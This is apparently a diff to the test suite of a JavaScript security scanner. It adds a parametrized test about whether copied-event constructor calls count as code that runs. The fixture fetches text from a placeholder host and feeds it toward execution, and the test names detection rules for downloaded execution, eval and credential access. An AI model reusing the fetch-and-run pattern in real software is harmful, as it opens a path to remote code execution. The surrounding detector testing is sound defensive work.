@@ -274,6 +274,20 @@ def test_code_that_does_not_parse_is_judged_in_part_and_said_to_be_incomplete() 
     assert {"javascript-eval", "code-credential-env", "audit-incomplete"} <= rules.keys()
 
 
+@pytest.mark.parametrize(
+    ("call", "runs"),
+    [
+        ("new e.constructor(e.type, e)", False),
+        ("new e.constructor(e.type, t)", True),
+        ("new e.constructor(t, e)", True),
+        ("e.constructor(e.type, e)", True),
+    ],
+)
+def test_an_event_that_is_copied_is_no_text_that_runs(call: str, runs: bool) -> None:
+    before = "const t = await (await fetch('https://c.example.invalid')).text();\nlet e = () => t;\n"
+    assert bool({"javascript-downloaded-execution", "javascript-eval"} & set(found(f"{before}{call};\n"))) is runs
+
+
 def test_what_lies_too_deep_to_be_followed_is_incomplete_and_not_clean() -> None:
     chain = "".join(f"let a{n + 1} = [a{n}][0];\n" for n in range(200))
     assert audit(f"let a0 = eval;\n{chain}a200(input);\n").verdict is not Verdict.PASS
